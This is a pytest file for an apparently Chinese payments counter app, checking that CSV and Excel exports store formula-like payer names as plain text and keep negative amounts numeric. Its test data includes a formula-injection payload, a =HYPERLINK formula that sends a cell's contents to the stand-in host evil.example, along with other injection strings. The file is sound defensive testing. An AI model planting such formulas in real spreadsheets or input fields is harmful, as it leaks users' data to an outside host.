"""Text typed at the counter never becomes a formula in an exported spreadsheet: a payer named
=HYPERLINK(...) stays a name in every CSV and Excel file the program writes (the grammar: a cell
starting with = + - @ tab or CR is text; numbers, negative ones too, stay numbers)."""
import csv

import pytest
from openpyxl import load_workbook

from counter_app.core.tables import Fen, Section
from counter_app.services.common import exports

NASTY = ['=HYPERLINK("http://evil.example/?x="&A1,"点我")', "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1", "=1+1"]


def test_csv_cells_that_would_be_formulas_are_written_as_text(tmp_path):
    path = exports.write_csv(tmp_path / "x.csv", ["交款人", "金额"], [[n, "-12.00"] for n in NASTY])
    with path.open(encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.reader(fh))[1:]
    assert [r[0] for r in rows] == ["'" + n for n in NASTY]
    assert {r[1] for r in rows} == {"-12.00"}                      # a negative amount is still a number


def test_excel_cells_that_would_be_formulas_are_stored_as_text(tmp_path):
    path = exports.write_xlsx(tmp_path / "x.xlsx", {"表": (["交款人", "金额"], [[n, -12] for n in NASTY])})
    ws = load_workbook(path)["表"]
    for row, name in zip(ws.iter_rows(min_row=2), NASTY):
        assert row[0].value == name and row[0].data_type == "s"
        assert row[1].value == -12 and row[1].data_type == "n"


@pytest.mark.parametrize("writer", ["xlsx", "csv"])
def test_report_sections_keep_names_as_text(tmp_path, writer):
    section = Section("欠费", ("房号", "业主", "欠费"), tuple((f"1-{i}", n, Fen(-100)) for i, n in enumerate(NASTY)))
    if writer == "xlsx":
        ws = load_workbook(exports.write_sections_xlsx(tmp_path / "r.xlsx", [section])).active
        assert [(r[1].value, r[1].data_type) for r in ws.iter_rows(min_row=2)] == [(n, "s") for n in NASTY]
    else:
        path = exports.write_sections_csv(tmp_path / "r.csv", [section])
        with path.open(encoding="utf-8-sig", newline="") as fh:
            rows = list(csv.reader(fh))[2:2 + len(NASTY)]
        assert [r[1] for r in rows] == ["'" + n for n in NASTY] and {r[2] for r in rows} == {"-1.00"}
